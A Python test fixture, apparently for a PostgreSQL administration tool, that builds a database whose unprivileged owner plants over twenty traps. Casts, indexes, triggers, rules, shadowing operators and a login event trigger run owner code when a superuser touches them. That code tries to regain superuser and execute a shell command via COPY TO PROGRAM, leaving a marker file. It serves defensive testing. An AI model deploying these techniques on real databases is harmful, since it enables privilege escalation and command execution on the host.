"""A database whose owner waits for a superuser: each attack is an object whose evaluation runs the owner's code.

The code tries to become a superuser, and then leaves a mark by a program of the server's account.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import psycopg
from psycopg import sql

from plinth.admin.postgres import Server, ensure_database

OWNER, PASSWORD = "mallory", "mallory's own"
HONEST_ROWS = 100
WAYS_BACK = (
    "RESET ROLE",
    "SET ROLE NONE",
    "SET ROLE postgres",
    "RESET SESSION AUTHORIZATION",
    "SET SESSION AUTHORIZATION DEFAULT",
    "SET SESSION AUTHORIZATION postgres",
    "RESET ALL",
)
_PAYLOAD = """
CREATE FUNCTION public.act(mark text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE way text;
BEGIN
  FOREACH way IN ARRAY {ways}::text[] LOOP
    BEGIN
      IF way <> '' THEN EXECUTE way; END IF;
      EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch ' || {marks} || '/' || mark);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  RETURN true;
END $$;
CREATE FUNCTION public.payload(mark text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM public.act(mark); RETURN true; END $$;
CREATE FUNCTION public.zero(mark text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM public.act(mark); RETURN 0; END $$;
"""


@dataclass(frozen=True)
class Attack:
    """Objects of an owner, and what a superuser would do to run their code."""

    name: str
    objects: str
    by: str = ""
    # Of whoever may make what an owner may not, and gives it to the owner.
    as_superuser: str = ""
    # The version of Postgres that has it.
    since: int = 0

    @property
    def proof(self) -> str:
        """A statement that leaves the mark when a superuser runs it."""
        return self.by or f"SELECT public.payload('{self.name}')"


ATTACKS = (
    Attack(
        "cast",
        """CREATE TABLE public.cast_t AS SELECT 1 AS a;
        CREATE FUNCTION public.as_text(public.cast_t) RETURNS text LANGUAGE plpgsql AS
          $$ BEGIN PERFORM public.act('cast'); RETURN 'x'; END $$;
        CREATE CAST (public.cast_t AS text) WITH FUNCTION public.as_text(public.cast_t)""",
        "SELECT t::text FROM public.cast_t AS t",
    ),
    Attack(
        "cast-of-a-type",
        """CREATE TYPE public.mood AS ENUM ('fine'); CREATE TABLE public.mood_t (id int PRIMARY KEY, m public.mood);
        INSERT INTO public.mood_t VALUES (1, 'fine');
        CREATE FUNCTION public.as_text(public.mood) RETURNS text LANGUAGE plpgsql AS
          $$ BEGIN PERFORM public.act('cast-of-a-type'); RETURN 'x'; END $$;
        CREATE CAST (public.mood AS text) WITH FUNCTION public.as_text(public.mood)""",
        "SELECT m::text FROM public.mood_t",
    ),
    Attack(
        "check",
        """CREATE TABLE public.check_t (a int CHECK (public.payload('check')));
        INSERT INTO public.check_t SELECT generate_series(1, 3)""",
        "INSERT INTO public.check_t VALUES (4)",
    ),
    Attack(
        "index",
        """CREATE TABLE public.index_t AS SELECT generate_series(1, 3) AS a;
        CREATE FUNCTION public.indexed(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
          $$ BEGIN PERFORM public.act('index'); RETURN $1; END $$;
        CREATE INDEX ON public.index_t (public.indexed(a))""",
        "INSERT INTO public.index_t VALUES (4)",
    ),
    Attack(
        # Planning any query on the table folds the constant part of it.
        "index-at-planning",
        """CREATE TABLE public.folded_t AS SELECT generate_series(1, 3) AS a;
        CREATE INDEX ON public.folded_t ((a + public.zero('index-at-planning')))""",
        "SELECT count(*) FROM public.folded_t",
    ),
    Attack(
        "generated",
        """CREATE TABLE public.generated_t (a int, g boolean GENERATED ALWAYS AS (public.payload('generated')) STORED);
        INSERT INTO public.generated_t SELECT generate_series(1, 3)""",
        "INSERT INTO public.generated_t VALUES (4)",
    ),
    Attack(
        "view",
        "CREATE VIEW public.view_v AS SELECT id, e, public.payload('view') AS p FROM public.honest",
        "SELECT * FROM public.view_v LIMIT 1",
    ),
    Attack("materialized-view", "CREATE MATERIALIZED VIEW public.view_m AS SELECT public.payload('materialized-view')"),
    Attack(
        "rule",
        """CREATE TABLE public.rule_t AS SELECT 1 AS a;
        CREATE RULE r AS ON INSERT TO public.rule_t DO ALSO SELECT public.payload('rule')""",
        "INSERT INTO public.rule_t VALUES (4)",
    ),
    Attack(
        "event-trigger",
        """CREATE FUNCTION public.event() RETURNS event_trigger LANGUAGE plpgsql AS
          $$ BEGIN PERFORM public.act('event-trigger'); END $$""",
        "CREATE TABLE public.of_a_superuser (); DROP TABLE public.of_a_superuser",
        "CREATE EVENT TRIGGER event ON ddl_command_end EXECUTE FUNCTION public.event()",
    ),
    Attack(
        "domain",
        """CREATE DOMAIN public.domain_d AS int CHECK (public.payload('domain'));
        CREATE TABLE public.domain_t (a public.domain_d); INSERT INTO public.domain_t VALUES (1), (2)""",
        "INSERT INTO public.domain_t VALUES (4)",
    ),
    Attack(
        # Found by whoever has the search path that the owner gave the database.
        "operator",
        """CREATE FUNCTION public.differ(name, text) RETURNS boolean LANGUAGE plpgsql AS
          $$ BEGIN PERFORM public.act('operator'); RETURN $1 OPERATOR(pg_catalog.<>) $2; END $$;
        CREATE OPERATOR public.<> (LEFTARG = name, RIGHTARG = text, FUNCTION = public.differ);
        CREATE OPERATOR public.!~~ (LEFTARG = name, RIGHTARG = text, FUNCTION = public.differ)""",
        "RESET search_path; SELECT 'a'::name <> 'b'::text",
    ),
    Attack(
        "function",
        """CREATE FUNCTION public.pg_export_snapshot() RETURNS text LANGUAGE plpgsql AS
          $$ BEGIN PERFORM public.act('function'); RETURN pg_catalog.pg_export_snapshot(); END $$""",
        "RESET search_path; SELECT pg_export_snapshot()",
    ),
    Attack(
        "collation",
        """CREATE COLLATION public.own FROM "C"; CREATE TABLE public.collated_t (a text COLLATE public.own);
        INSERT INTO public.collated_t VALUES ('a'), ('B')""",
    ),
    Attack(
        "policy",
        """CREATE TABLE public.policy_t AS SELECT generate_series(1, 5) AS a;
        CREATE POLICY p ON public.policy_t USING (public.payload('policy') AND a > 3);
        ALTER TABLE public.policy_t ENABLE ROW LEVEL SECURITY; ALTER TABLE public.policy_t FORCE ROW LEVEL SECURITY""",
    ),
    Attack(
        "foreign-table",
        """CREATE SERVER elsewhere FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '1');
        CREATE FOREIGN TABLE public.foreign_t (a int, p boolean DEFAULT public.payload('foreign-table'))
          SERVER elsewhere""",
    ),
    Attack(
        "publication",
        """CREATE TABLE public.published_t (a int PRIMARY KEY); INSERT INTO public.published_t VALUES (1);
        CREATE PUBLICATION p FOR TABLE public.published_t""",
    ),
    Attack(
        "default",
        """CREATE TABLE public.default_t (a int, p boolean DEFAULT public.payload('default'));
        INSERT INTO public.default_t (a) VALUES (1)""",
        "INSERT INTO public.default_t (a) VALUES (2)",
    ),
    Attack(
        "trigger",
        """CREATE TABLE public.trigger_t (a int);
        CREATE FUNCTION public.triggered() RETURNS trigger LANGUAGE plpgsql AS
          $$ BEGIN PERFORM public.act('trigger'); RETURN NEW; END $$;
        CREATE TRIGGER t BEFORE INSERT ON public.trigger_t FOR EACH ROW EXECUTE FUNCTION public.triggered();
        ALTER TABLE public.trigger_t ENABLE ALWAYS TRIGGER t; INSERT INTO public.trigger_t VALUES (1)""",
        "INSERT INTO public.trigger_t VALUES (2)",
    ),
    Attack(
        "statistics",
        """CREATE TABLE public.statistics_t AS SELECT generate_series(1, 50) AS a, 1 AS b;
        CREATE STATISTICS public.s ON (a + public.zero('statistics')), b FROM public.statistics_t""",
        "SELECT * FROM public.statistics_t WHERE a = 1 AND b = 1",
    ),
    Attack(
        "partition",
        """CREATE TABLE public.partition_t (a int) PARTITION BY LIST ((a + public.zero('partition')));
        CREATE TABLE public.partition_1 PARTITION OF public.partition_t FOR VALUES IN (1);
        INSERT INTO public.partition_t VALUES (1)""",
        "INSERT INTO public.partition_t VALUES (1)",
    ),
    Attack(
        # Whoever enters the database runs it; the last one, for tests enter as well.
        "login",
        """CREATE FUNCTION public.enters() RETURNS event_trigger LANGUAGE plpgsql AS
          $$ BEGIN PERFORM public.act('login'); END $$""",
        "SELECT 1",
        "CREATE EVENT TRIGGER enters ON login EXECUTE FUNCTION public.enters()",
        since=17,
    ),
)


def make(server: Server, database: str, marks: Path) -> None:
    """A database of the owner's with every attack, and a table of honest rows beside them."""
    ensure_database(server, database, OWNER, PASSWORD)
    with entered(server, database) as connection:
        connection.execute("CREATE EXTENSION postgres_fdw; GRANT USAGE ON FOREIGN DATA WRAPPER postgres_fdw TO mallory")
    with entered(as_owner(server), database) as connection:
        connection.execute(
            "CREATE TABLE public.honest AS SELECT n AS id, md5(n::text) AS v, ARRAY[n, 1]::real[] AS e "
            f"FROM generate_series(1, {HONEST_ROWS}) n; ALTER TABLE public.honest ADD PRIMARY KEY (id)"
        )
        connection.execute(
            sql.SQL(_PAYLOAD.replace("{marks}", "{0}").replace("{ways}", "{1}")).format(
                sql.Literal(str(marks)), sql.Literal(["", *WAYS_BACK])
            )
        )
    for attack in ATTACKS:
        if attack.since > version(server):
            continue
        with entered(as_owner(server), database) as connection:
            connection.execute(attack.objects.encode())
        if attack.as_superuser:
            with entered(server, database) as connection:
                connection.execute(attack.as_superuser.encode())
    with entered(as_owner(server), database) as connection:
        own = sql.SQL("ALTER DATABASE {} SET search_path = public, pg_catalog").format(sql.Identifier(database))
        connection.execute(own)


def version(server: Server) -> int:
    """The server's major version."""
    with entered(server, "postgres") as connection:
        return connection.info.server_version // 10000


def as_owner(server: Server) -> Server:
    return replace(server, user=OWNER, password=PASSWORD)


@contextmanager
def entered(server: Server, database: str) -> Iterator[psycopg.Connection[Any]]:
    """A connection that a test uses as whom it names."""
    with closing(server.connect(database)) as connection:
        yield connection
